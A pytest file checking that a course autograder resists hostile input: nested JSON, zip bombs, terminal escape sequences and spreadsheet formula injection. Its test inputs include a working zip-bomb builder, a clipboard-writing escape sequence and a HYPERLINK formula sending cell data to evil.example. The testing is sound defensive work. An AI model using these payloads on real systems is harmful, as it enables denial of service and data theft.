"""The grading side is bounded against hostile input: what a worker sends back, a notebook's JSON, a zip of
submissions, and text that reaches a TA's terminal or spreadsheet. No worker is started here."""

import csv
import io
import json
import os
import re
import socket
import struct
import threading
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
from nbtools import write_notebook

from grader import protocol, provenance
from grader.batch import command as batch
from grader.batch import executors, roster, unzip
from grader.intake.load import read_notebook
from grader.intake.notebook_file import NotebookError
from grader.isolation.spawn import IsolationUnavailable, WorkerProcess
from grader.judging.submission import Submission
from grader.probing import call, probe
from grader.reports.results import check_summary, terminal_table
from grader.reports.sanitize import cell, line

DEEP = 100_000

# --------------------------------------------------------------------------- measuring JSON before parsing


def test_measure_sees_structure_and_not_strings():
    text = json.dumps({"a": [1, ']]]\\"[[[{', {"b": []}], "c": "\u00e9[["})
    shape = protocol.measure(text)
    assert (shape.depth, shape.containers) == (4, 4)
    assert protocol.measure("[" * DEEP + "]" * DEEP).depth == DEEP
    # an escaped quote does not end a string: the brackets after it are still inside it
    assert protocol.measure(b'["\\"[[[[", []]').depth == 2


def _plain_shape(doc: str) -> tuple[int, int, int]:
    """(depth, containers, commas) outside strings, one character at a time."""
    depth = level = containers = commas = 0
    inside = escaped = False
    for ch in doc:
        if inside:
            inside, escaped = (escaped or ch != '"'), (not escaped and ch == "\\")
        elif ch == '"':
            inside = True
        elif ch in "[{":
            level, containers = level + 1, containers + 1
            depth = max(depth, level)
        elif ch in "]}":
            level -= 1
        elif ch == ",":
            commas += 1
    return depth, containers, commas


def test_measure_agrees_with_a_plain_tokeniser_across_chunk_edges(monkeypatch):
    import random

    rng = random.Random(7)
    alphabet = ['"', "\\", "[", "]", "{", "}", ",", "a", "\u00e9", "\n"]

    def text():
        return "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 9)))

    def value(d=0):
        r = rng.random()
        if d > 5 or r < 0.3:
            return text()
        if r < 0.6:
            return [value(d + 1) for _ in range(rng.randint(0, 4))]
        return {text(): value(d + 1) for _ in range(rng.randint(0, 3))}

    monkeypatch.setattr(protocol, "_CHUNK", 5)  # strings and runs of backslashes across chunk edges
    for _ in range(300):
        doc = json.dumps(value(), ensure_ascii=rng.random() < 0.5)
        shape = protocol.measure(doc)
        depth, containers, commas = _plain_shape(doc)
        assert (shape.depth, shape.containers, shape.items) == (depth, containers, commas + containers), doc


def test_loads_refuses_before_json_builds_anything(monkeypatch):
    monkeypatch.setattr(protocol.json, "loads", lambda *a: pytest.fail("json.loads was called"))
    bounds = protocol.Bounds(max_depth=64, max_containers=1000)
    with pytest.raises(protocol.Refused, match="nested 100,000 levels deep"):
        protocol.loads("[" * DEEP + "]" * DEEP, bounds)
    with pytest.raises(protocol.Refused, match="6,000,001 lists or dicts"):
        protocol.loads("[" + ",".join(["[]"] * 6_000_000) + "]", bounds)


# --------------------------------------------------------------------------- what a worker sends back


def _frame(body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + body


def _answer(value: bytes, extra: bytes = b"") -> bytes:
    return _frame(b'{"results": [{"ok": true, "value": ' + value + b"}], " + extra + b'"printed": "", "dropped": 0}')


def _recv_all(*frames: bytes) -> list[dict]:
    """Frames written by a thread into a pipe, read back by the grading side's recv."""
    r, w = os.pipe()

    def feed():
        with os.fdopen(w, "wb") as f:
            for frame in frames:
                f.write(frame)

    threading.Thread(target=feed, daemon=True).start()
    try:
        return [protocol.recv(r, deadline=None, bounds=protocol.FROM_WORKER) for _ in frames]
    finally:
        os.close(r)


def test_padded_answer_is_refused_without_ballooning_memory():
    padded = _answer(b"[" + b",".join([b"[]"] * 6_000_000) + b"]")  # 18 MB of empty lists
    tracemalloc.start()
    try:
        (answer,) = _recv_all(padded)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert answer["ok"] is False and "6,000,004 lists or dicts (the limit is 20,000)" in answer["message"]
    assert peak < 4 * len(padded)  # parsed, the same frame took about 50 times its size


def test_deep_ready_message_is_a_refusal_not_a_recursion_error():
    (answer,) = _recv_all(_frame(b'{"ready": true, "notes": ' + b"[" * DEEP + b"]" * DEEP + b"}"))
    assert answer == protocol.refusal(f"it is nested {DEEP + 1:,} levels deep (the limit is 64)")


def test_oversized_frame_is_skipped_and_the_channel_stays_in_step():
    big = _answer(b'"' + b"x" * (protocol.FROM_WORKER.max_bytes + 10) + b'"')
    honest = _answer(json.dumps(protocol.encode(np.arange(3.0))).encode())
    first, second = _recv_all(big, honest)
    assert first["ok"] is False and "MB (the limit is 32 MB)" in first["message"]
    assert protocol.decode(second["results"][0]["value"]).tolist() == [0.0, 1.0, 2.0]


def test_worker_channel_uses_the_bounds():
    """The grading side's read of its worker (WorkerProcess._recv) refuses a deep frame and goes on."""
    worker = WorkerProcess.__new__(WorkerProcess)
    worker.sock, theirs = socket.socketpair()
    worker.proc = type("Alive", (), {"poll": lambda self: None})()
    try:
        theirs.sendall(_frame(b"[" * DEEP + b"]" * DEEP))
        assert worker._recv(10)["kind"] == "refused"
        protocol.send(theirs.fileno(), {"ready": True})
        assert worker._recv(10) == {"ready": True}
    finally:
        worker.sock.close()
        theirs.close()


def _pickled_array() -> str:
    buf = io.BytesIO()
    np.save(buf, np.array([{"a": 1}], dtype=object), allow_pickle=True)
    import base64

    return base64.b64encode(buf.getvalue()).decode()


@pytest.mark.parametrize(
    "value, why",
    [
        ([[], []], "not data the grader's worker writes"),  # raw JSON lists: encode never writes them
        ({"$float": "1e999999"}, "not data the grader's worker writes"),
        ({"$array": "not base64!"}, "an array that cannot be read"),
        ({"$array": _pickled_array()}, "an array that cannot be read"),
        ({"$weird": 1}, "not data the grader's worker writes"),
    ],
)
def test_values_the_worker_never_writes_fail_their_call(value, why):
    kept, _ = protocol.answer_kept({"results": [{"ok": True, "value": value}]}, 1)
    assert kept["results"][0]["ok"] is False and why in kept["results"][0]["message"]


def test_only_what_checks_read_is_kept():
    sent = {
        "results": [
            {"ok": True, "value": {"$list": [1, {"$float": "nan"}], "tuple": True, "junk": "x" * 1000}, "extra": 1},
            {"ok": False, "kind": "exception", "message": "boom " * 10_000, "trace": "t" * 1000},
        ],
        "printed": "p" * 100_000,
        "dropped": -5,
        "leftovers": "many",
        "notes": ["adapted", 3, "x" * 1000] * 20,
        "secret": list(range(100)),
    }
    kept, size = protocol.answer_kept(sent, 2)
    assert set(kept) == {"results", "printed", "dropped", "leftovers", "notes"}
    assert kept["results"][0] == {"ok": True, "value": {"$list": [1, {"$float": "nan"}], "tuple": True}}
    assert protocol.decode(kept["results"][0]["value"])[0] == 1
    assert set(kept["results"][1]) == {"ok", "kind", "message"} and len(kept["results"][1]["message"]) == 4000
    assert len(kept["printed"]) == 4000 and kept["dropped"] == 0 and kept["leftovers"] == 0
    assert len(kept["notes"]) == 8 and all(isinstance(n, str) and len(n) <= 300 for n in kept["notes"])
    assert size < 20_000
    wrong, _ = protocol.answer_kept({"results": [{"ok": True, "value": 1}]}, 2)
    assert [r["ok"] for r in wrong["results"]] == [False, False] and "wrong number" in wrong["failed"]


class _Worker:
    """Answers every probe with one array of ``n`` floats."""

    def __init__(self, n):
        self.value = protocol.encode(np.zeros(n, dtype=np.float32))

    def probe(self, calls, timeout, support=None):
        return {"results": [{"ok": True, "value": self.value} for _ in calls], "printed": "", "dropped": 0}


def test_a_submission_keeps_answers_up_to_its_budget(monkeypatch):
    monkeypatch.setattr(protocol, "MAX_KEPT", 3 * 1024 * 1024)
    probes = {f"p{i}": probe("f", call("f")) for i in range(5)}
    sub = Submission(probes, worker=_Worker(250_000))  # 1 MB of float32, 1.3 MB encoded
    oks = [sub.answers(p)["results"][0]["ok"] for p in probes]
    assert oks == [True, True, False, False, False]
    assert "passed 3 MB in all" in sub.answers("p4")["results"][0]["message"]
    assert sub.kept <= protocol.MAX_KEPT


# --------------------------------------------------------------------------- notebooks


def _deep_notebook(path: Path) -> Path:
    write_notebook(path, [("code", "def forward(im, t):\n    return im")], assignment="proj5a")
    text = path.read_text().replace('"metadata": {', '"metadata": {"bomb": ' + "[" * DEEP + "]" * DEEP + ", ", 1)
    path.write_text(text)
    return path


def test_deeply_nested_notebook_metadata_is_a_clear_error(tmp_path):
    path = _deep_notebook(tmp_path / "proj5a.ipynb")
    with pytest.raises(NotebookError, match=r"nested 100,00\d levels deep \(the limit is 100\)"):
        read_notebook(path)


def test_oversized_notebook_is_refused_unread(tmp_path, monkeypatch):
    import grader.intake.notebook_file

    monkeypatch.setattr(grader.intake.notebook_file, "MAX_NOTEBOOK_BYTES", 1000)
    path = write_notebook(tmp_path / "big.ipynb", [("code", "x = 1\n" * 500)], assignment="proj5a")
    with pytest.raises(NotebookError, match="is over 0 MB: clear its outputs"):
        read_notebook(path)


def test_deep_notebook_scores_zero_on_gradescope(tmp_path):
    from grader.publish import gradescope

    _deep_notebook(tmp_path / "submission" / "proj5a.ipynb")
    data = gradescope.run(tmp_path, "proj5a")
    assert data["score"] == 0 and data["tests"]
    assert "nested" in data["output"] and "autograder failed" not in data["output"]
    assert json.loads((tmp_path / "results" / "results.json").read_text())["score"] == 0


# --------------------------------------------------------------------------- zips


def _zip_bomb(path: Path, member: str, size: int = 1 << 30) -> Path:
    """A valid zip of a ``size``-byte member of zeros, about 1,000 times smaller: each 1 MB block is
    compressed once, and the same compressed block stands for every block (a full flush between them)."""
    chunk = bytes(1 << 20)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflate.compress(chunk), deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.flush()

    class Repeat:
        def compress(self, data):
            assert data in (chunk, b"")
            return block if data else b""

        def flush(self):
            return tail

    real = zipfile._get_compressor
    zipfile._get_compressor = lambda kind, *a, **k: Repeat() if kind == zipfile.ZIP_DEFLATED else real(kind, *a, **k)
    try:
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
            zf.writestr("submission_2/proj5a.ipynb", "{}", compress_type=zipfile.ZIP_STORED)
            with zf.open(member, "w", force_zip64=True) as f:
                for _ in range(size >> 20):
                    f.write(chunk)
    finally:
        zipfile._get_compressor = real
    return path


def test_zip_bomb_member_is_skipped_not_extracted(tmp_path, capsys):
    zpath = _zip_bomb(tmp_path / "export.zip", "submission_1/proj5a.ipynb")
    assert zpath.stat().st_size < 2 * 1024 * 1024
    with zipfile.ZipFile(zpath) as zf:
        assert zf.getinfo("submission_1/proj5a.ipynb").file_size == 1 << 30
    dest = tmp_path / "out" / "_submissions"
    roster.unpack_zip(zpath, dest)
    assert [str(p.relative_to(dest)) for p in dest.rglob("*") if p.is_file()] == ["submission_2/proj5a.ipynb"]
    err = capsys.readouterr().err
    assert "skipped 1 member(s) that would extract to over 128 MB or over 200 times their stored size" in err
    assert "submission_1/proj5a.ipynb" in err


def test_highly_compressed_member_under_the_size_cap_is_skipped(tmp_path):
    zpath = _zip_bomb(tmp_path / "ratio.zip", "submission_1/proj5a.ipynb", size=16 << 20)
    extracted = unzip.extract(zpath, tmp_path / "x")
    assert extracted.oversized == ["submission_1/proj5a.ipynb"] and len(extracted.written) == 1


def test_zip_with_too_many_members_or_too_much_in_all_is_refused(tmp_path, monkeypatch):
    zpath = tmp_path / "many.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        for i in range(6):
            zf.writestr(f"submission_{i}/proj5a.ipynb", "{}" + " " * 100)
    monkeypatch.setattr(unzip, "MAX_MEMBERS", 5)
    with pytest.raises(batch.BatchInputError, match="holds 6 members"):
        roster.unpack_zip(zpath, tmp_path / "a")
    monkeypatch.setattr(unzip, "MAX_MEMBERS", 100)
    monkeypatch.setattr(unzip, "MAX_TOTAL_BYTES", 350)
    with pytest.raises(batch.BatchInputError, match="would extract to over"):
        roster.unpack_zip(zpath, tmp_path / "b")


def test_only_notebooks_and_metadata_are_extracted(tmp_path):
    zpath = tmp_path / "export.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("submission_metadata.yml", "{}")
        zf.writestr("submission_1/proj5a.ipynb", "{}")
        zf.writestr("submission_1/weights.pt", "x" * 1000)
    dest = tmp_path / "d"
    roster.unpack_zip(zpath, dest)
    assert sorted(str(p.relative_to(dest)) for p in dest.rglob("*") if p.is_file()) == [
        "submission_1/proj5a.ipynb",
        "submission_metadata.yml",
    ]


def test_damaged_member_is_skipped(tmp_path, capsys):
    zpath = tmp_path / "damaged.zip"
    with zipfile.ZipFile(zpath, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("submission_1/proj5a.ipynb", "A" * 100)
        zf.writestr("submission_2/proj5a.ipynb", "{}")
    data = zpath.read_bytes()
    zpath.write_bytes(data.replace(b"A" * 100, b"B" * 100, 1))  # the CRC no longer matches
    dest = tmp_path / "d"
    roster.unpack_zip(zpath, dest)
    assert [str(p.relative_to(dest)) for p in dest.rglob("*") if p.is_file()] == ["submission_2/proj5a.ipynb"]
    assert "cannot be read" in capsys.readouterr().err


# --------------------------------------------------------------------------- what reaches the TA

HOSTILE = (
    "boom\x1b[2J\x1b[H\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x1b\\"
    "\r  PASS    10/10  forward  all good\n  PASS    5/5  sdedit  fine\x9b31m\u202eevil\x00"
)
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_line_is_one_plain_line():
    text = line(HOSTILE)
    assert "\n" not in text and not _CONTROL.search(text)
    assert "52;c" not in text and "title" not in text and "ZXZpbA" not in text
    assert text.startswith("boom") and "forward  all good" in text
    assert line("x" * 50, 10) == "xxxxxxx..."


def _grade(**kw):
    from grader.judging.plugin import CheckResult
    from grader.runner import Grade

    checks = [
        CheckResult("test_forward_runs", "forward runs", "forward", 2.0, True, False, HOSTILE, 0.0),
        CheckResult("test_sdedit", "sdedit " + HOSTILE, "sdedit", 3.0, True, True, "", 0.0),
    ]
    return Grade(notebook="/x/evil\x1b[2J.ipynb", assignment="proj5a", checks=checks, **kw)


@pytest.mark.parametrize("render", [terminal_table, check_summary])
def test_terminal_output_holds_no_control_characters_or_forged_lines(render):
    for g in (_grade(notes=[HOSTILE, "ok"]), _grade(error=HOSTILE)):
        out = render(g)
        assert not _CONTROL.search(out), repr(out)
        assert sum(l.lstrip().startswith(("PASS", "ok ")) for l in out.splitlines()) <= 1  # sdedit's own line


def test_csv_cells_never_start_a_formula():
    for value in ('=HYPERLINK("http://x","y")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1"):
        assert cell(value).startswith("'"), value
    assert cell("Ada Lovelace") == "Ada Lovelace" and cell(-1.5) == -1.5 and cell(0) == 0


def test_gradebook_neutralises_a_submitter_named_as_a_formula(tmp_path):
    out = tmp_path / "out"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    (out / "s1").mkdir(parents=True)
    (out / batch.SUBMITTERS).write_text(json.dumps({"s1": [{"name": evil, "sid": "-1", "email": "@x"}]}))
    results = {
        "score": 2.0,
        "max_score": 2.0,
        "output": "",
        "tests": [{"name": "forward: runs", "score": 2.0, "tags": ["forward"], "status": "passed"}],
        "extra_data": {"assignment": "proj5a"},
    }
    (out / "s1" / batch.DONE).write_text(json.dumps(results))
    (path,) = batch.write_gradebook(out, ["s1"])
    with open(path, newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["name"] == "'" + evil and row["sid"] == "'-1" and row["email"] == "'@x"
    assert row["total"] == "2.0"


# --------------------------------------------------------------------------- a batch goes on


@pytest.fixture
def threads(monkeypatch):
    from concurrent.futures import ThreadPoolExecutor

    monkeypatch.setattr(executors, "ProcessPoolExecutor", ThreadPoolExecutor)
    monkeypatch.setattr(executors, "init_process", lambda limits, jobs=1: None)


def _grading(monkeypatch, failing: dict):
    """grade() stands in: notebooks named in ``failing`` raise that exception, the others score 2/2."""
    import grader.runner
    from grader.judging.plugin import CheckResult

    def grade(notebook, assignment=None, **kwargs):
        if Path(notebook).stem in failing:
            raise failing[Path(notebook).stem]
        checks = [CheckResult("test_forward_runs", "forward runs", "forward", 2.0, True, True, "", 0.0)]
        return grader.runner.Grade(notebook=str(notebook), assignment="proj5a", checks=checks)

    monkeypatch.setattr(grader.runner, "grade", grade)


def _folder(tmp_path, names):
    for n in names:
        write_notebook(tmp_path / "subs" / f"{n}.ipynb", [("code", "x = 1")], assignment="proj5a")
    return tmp_path / "subs"


def test_a_forged_seal_error_fails_only_its_submission(tmp_path, monkeypatch, threads, capsys):
    from grader import cli

    _grading(
        monkeypatch,
        {
            "b": IsolationUnavailable("cannot isolate student code: \x1b[2J\nPASS everyone gets 100"),
            "c": RuntimeError("student text \x1b]52;c;ZXZpbA==\x07\nPASS"),
        },
    )
    monkeypatch.setattr(executors, "machine_fault", lambda: None)  # the grader's own check: this machine seals
    subs = _folder(tmp_path, ["a", "b", "c", "d"])
    code = cli.main(["batch", str(subs), "--assignment", "proj5a", "--out", str(tmp_path / "out"), "-q"])
    printed = capsys.readouterr()
    assert code == 0
    results = {p.parent.name: json.loads(p.read_text()) for p in (tmp_path / "out").glob("*/results.json")}
    assert {n: r["score"] for n, r in results.items()} == {"a": 2.0, "b": 0, "c": 0, "d": 2.0}
    assert results["b"]["output"] == executors.SEAL_REFUSED and "everyone" not in results["b"]["output"]
    assert not _CONTROL.search(printed.out + printed.err)
    assert len(printed.out.splitlines()) == 6  # header, four students, the gradebook line


def test_only_the_graders_own_machine_check_stops_a_batch(tmp_path, monkeypatch, threads):
    _grading(monkeypatch, {"b": IsolationUnavailable("student text")})
    monkeypatch.setattr(executors, "machine_fault", lambda: "cannot isolate student code (unshare: EPERM)")
    subs = _folder(tmp_path, ["a", "b"])
    with pytest.raises(executors.MachineFault) as stopped:
        batch.run_batch(subs, "proj5a", tmp_path / "out", show_progress=False)
    assert str(stopped.value) == "cannot isolate student code (unshare: EPERM)"


def test_machine_check_runs_no_student_code_and_says_yes_or_why():
    fault = executors.machine_fault()
    assert fault is None or (isinstance(fault, str) and "cannot isolate" in fault)


def test_dask_task_returns_a_failure_instead_of_raising_student_text(monkeypatch):
    pytest.importorskip("distributed")
    from grader.batch import dask_executor

    _grading(monkeypatch, {"nb": IsolationUnavailable("forged \x1b[2J")})
    monkeypatch.setattr(executors, "machine_fault", lambda: None)
    monkeypatch.setattr(dask_executor, "_server", lambda limits=None: None)
    expected = provenance.fingerprint()
    outcome = dask_executor.grade_on_worker("nb.ipynb", b"{}", "proj5a", "nb.ipynb", expected)
    assert outcome["results"]["output"] == executors.SEAL_REFUSED
    monkeypatch.setattr(executors, "machine_fault", lambda: "cannot isolate student code (no namespaces)")
    with pytest.raises(executors.MachineFault, match=r"^cannot isolate student code \(no namespaces\)$"):
        dask_executor.grade_on_worker("nb.ipynb", b"{}", "proj5a", "nb.ipynb", expected)
